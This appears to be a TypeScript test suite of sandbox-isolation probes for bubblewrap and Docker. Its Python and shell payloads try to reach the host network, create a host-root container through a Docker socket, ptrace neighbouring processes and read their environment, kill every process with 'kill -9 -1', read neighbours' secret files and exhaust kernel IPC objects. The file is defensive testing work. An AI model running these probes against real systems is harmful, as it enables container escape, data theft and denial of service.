// Attacks on others: the network, the container engine, neighbours' files and processes, and what the kernel shares between them.
import { type Attack, python } from "../../kit/attack.ts";

export const attacks: readonly Attack[] = [
  {
    id: "network-host",
    aim: "host",
    row: "sandboxes 5: 127.0.0.1 listener on host; issue 7: network",
    does: "connects to the host by loopback, by its own addresses, by the engine's bridge and by an abstract socket",
    expects: "the host hears nothing",
    flags: ["net:tried"],
    actions: ({ port, addresses, abstractSocket }) => [
      python(`
import socket
for host in ${JSON.stringify(["127.0.0.1", "localhost", "::1", "0.0.0.0", "172.17.0.1", "host.docker.internal", ...addresses])}:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            for family, _, _, _, address in socket.getaddrinfo(host, ${port}, 0, kind)[:1]:
                link = socket.socket(family, kind)
                link.settimeout(0.3)
                link.connect(address)
                link.send(b"hello")
                if kind == socket.SOCK_STREAM:
                    print("REACHED", host, link.recv(100))
        except OSError as error:
            print(host, error)
try:
    link = socket.socket(socket.AF_UNIX)
    link.settimeout(0.5)
    link.connect("\\0${abstractSocket}")
    print("REACHED the abstract socket", link.recv(100))
except OSError as error:
    print("abstract:", error)`),
    ],
    quick: ["bubblewrap", "docker"],
  },
  {
    id: "network-away",
    aim: "host",
    row: "sandboxes 5: TEST-NET, DNS; catalogue 18, 27",
    does: "asks for names, sends to other addresses, opens raw and packet sockets and makes network devices",
    expects: "nothing leaves: there is no device but loopback",
    flags: ["net:tried"],
    actions: ({ marker }) => [
      python(`
import socket, struct
for name in ("${marker}.example.org", "metadata.google.internal", "packages.example.com"):
    try:
        print("REACHED a name:", socket.getaddrinfo(name, 80))
    except OSError as error:
        print(name, error)
for address in ("192.0.2.1", "169.254.169.254", "10.0.0.1"):
    try:
        link = socket.create_connection((address, 80), 0.5)
        print("REACHED", address)
    except OSError as error:
        print(address, error)
for server in ("127.0.0.53", "192.0.2.53"):
    try:
        link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        link.settimeout(0.3)
        link.sendto(b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\1a\\0\\0\\1\\0\\1", (server, 53))
        print("REACHED", link.recv(100))
    except OSError as error:
        print(server, error)
for family, kind, protocol in ((socket.AF_INET, socket.SOCK_RAW, 1), (17, socket.SOCK_RAW, 768), (40, socket.SOCK_STREAM, 0)):
    try:
        link = socket.socket(family, kind, protocol)
        link.settimeout(0.3)
        if family == 40:
            link.connect((2, 1024))
        print("REACHED a socket of family", family)
    except OSError as error:
        print(family, error)
        if family == 40 and error.errno in (104, 110, 111):
            print("REACHED the hypervisor, which answers")
for index, name in socket.if_nameindex():
    if name not in ("lo", "tunl0", "gre0", "gretap0", "erspan0", "ip_vti0", "ip6_vti0", "sit0", "ip6tnl0", "ip6gre0"):
        print("REACHED a device:", name)`),
      "ip link add nsx0 type dummy 2>/dev/null && echo REACHED a device; ping -c 1 -W 1 192.0.2.1 2>/dev/null && echo REACHED; echo tried",
    ],
    quick: ["bubblewrap", "docker"],
  },
  {
    id: "engine-socket",
    aim: "host",
    row: "sandboxes 5: docker.sock; issue 7: Docker socket",
    does: "looks for a container engine's socket everywhere, and asks whatever it finds for a container with the host's root",
    expects: "there is none",
    flags: ["host:socket"],
    actions: ({ marker }) => [
      python(`
import glob, os, socket, stat
found = ["/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock", "/run/crio/crio.sock"]
for folder in ("/run", "/var/run", "/tmp", "/var/lib", "/proc/1/root/run"):
    for base, folders, files in os.walk(folder):
        for name in files:
            try:
                if stat.S_ISSOCK(os.lstat(os.path.join(base, name)).st_mode):
                    found.append(os.path.join(base, name))
            except OSError:
                pass
body = b'{"Image": "nightshift/python", "Cmd": ["true"], "HostConfig": {"Binds": ["/:/host"]}}'
for path in found:
    try:
        link = socket.socket(socket.AF_UNIX)
        link.settimeout(1)
        link.connect(path)
        link.sendall(b"POST /containers/create?name=${marker} HTTP/1.0\\r\\nContent-Type: application/json\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(body) + body)
        answer = link.recv(200)
        if answer:
            print("REACHED", path, answer)
    except OSError as error:
        print(path, error)`),
    ],
    quick: ["bubblewrap"],
  },
  {
    id: "neighbour-processes",
    aim: "host",
    row: "issue 7: neighbours' processes (ptrace, /proc/<pid>/root, signals)",
    does: "looks for processes that are not its own, and signals, traces and reads the neighbour's, the orchestrator's and all others",
    expects: "there is nobody but itself",
    flags: ["host:neighbour"],
    actions: ({ neighbourPid, hostPid }) => [
      python(`
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
pids = [int(name) for name in os.listdir("/proc") if name.isdigit()]
print(len(pids), "processes")
if len(pids) > 40:
    print("REACHED the host's list of processes")
for pid in (${neighbourPid ?? hostPid}, ${hostPid}):
    for what, ask in (
        ("signal", lambda: os.kill(pid, 0)),
        ("stop", lambda: os.kill(pid, signal.SIGCONT)),
        ("root", lambda: os.listdir("/proc/%d/root/work" % pid)),
        ("memory", lambda: open("/proc/%d/mem" % pid, "rb")),
        ("environment", lambda: open("/proc/%d/environ" % pid, "rb").read()),
        ("words", lambda: open("/proc/%d/cmdline" % pid, "rb").read()),
    ):
        try:
            ask()
            print("REACHED", what, "of", pid)
        except OSError as error:
            print(what, error.strerror)
    if libc.ptrace(16, pid, 0, 0) == 0:
        print("REACHED ptrace of", pid)
    pidfd = libc.syscall(434, pid, 0)
    if pidfd >= 0:
        print("REACHED pidfd of", pid)`),
      "pkill -9 -f sleep; killall -9 python3; kill -9 -1; echo not reached",
      "echo alive",
    ],
    quick: ["bubblewrap"],
  },
  {
    id: "neighbour-files",
    aim: "host",
    row: "issue 7: neighbours' files; catalogue 32: shared cache and tmp",
    does: "looks for the neighbour's files on the host, in shared temporary folders and through every root that /proc shows, and lays traps there",
    expects: "nothing of it is there, and nothing of the traps is found by the neighbour",
    flags: ["host:neighbour"],
    actions: ({ scratch, openFolder, secretFile, marker, neighbourPid }) => [
      `cat ${secretFile} /${secretFile}; ls -A ${scratch} /${scratch}/s /${openFolder}; cat /tmp/neighbour-mine //tmp/neighbour-mine /dev/shm/neighbour-mine; find / -xdev -name 'notes.txt' -exec cat {} + 2>/dev/null; cat /proc/${neighbourPid ?? 1}/root/work/notes.txt /proc/*/root/work/notes.txt /proc/*/cwd/notes.txt 2>/dev/null; echo looked`,
      `for d in /tmp //tmp /dev/shm /var/tmp ${openFolder} /${openFolder} /${scratch}; do echo trap > $d/${marker}; echo trap > $d/neighbour-mine; rm -f $d/neighbour-mine; done 2>/dev/null; echo laid`,
    ],
    quick: ["bubblewrap"],
  },
  {
    id: "kernel-shared",
    aim: "host",
    row: "issue 7: neighbours; what the kernel shares: System V memory, queues, keys, locks",
    does: "makes shared memory, semaphores, message queues and keys under known numbers, to talk to neighbours or to use them up",
    expects: "they are the sandbox's own and go with it",
    flags: ["host:neighbour"],
    actions: () => [
      python(`
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
made = libc.shmget(0x4e534854, 1 << 20, 0o1666)
print("segment", made)
for n in range(200):
    if libc.msgget(0x4e534855 + n, 0o1666) < 0 or libc.semget(0x4e534855 + n, 1, 0o1666) < 0:
        break
print("queues", n)
rt = ctypes.CDLL("librt.so.1", use_errno=True)
print("posix queue", rt.mq_open(b"/nsx", os.O_CREAT | os.O_RDWR, 0o666, None) )
key = libc.syscall(248, b"user", b"nsx", b"value", 5, -4)
if key > 0:
    print("REACHED the kernel's keys", key)
print(open("/proc/keys").read()[:300] if os.path.exists("/proc/keys") else "no keys")
found = libc.syscall(250, 10, -4, b"user", b"secret-of-the-host", 0)
if found > 0:
    print("REACHED a key")`),
      "ipcs -m 2>/dev/null | wc -l; echo over",
    ],
  },
];
